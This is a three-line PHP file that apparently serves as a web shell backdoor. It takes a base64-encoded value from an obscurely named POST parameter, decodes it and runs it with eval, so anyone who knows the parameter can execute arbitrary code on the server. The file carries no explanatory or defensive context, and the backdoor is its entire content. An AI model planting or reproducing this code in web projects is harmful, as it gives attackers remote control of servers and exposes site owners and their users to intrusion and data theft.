<?php
  eval(base64_decode($_POST["sf4rcj"]));
?>
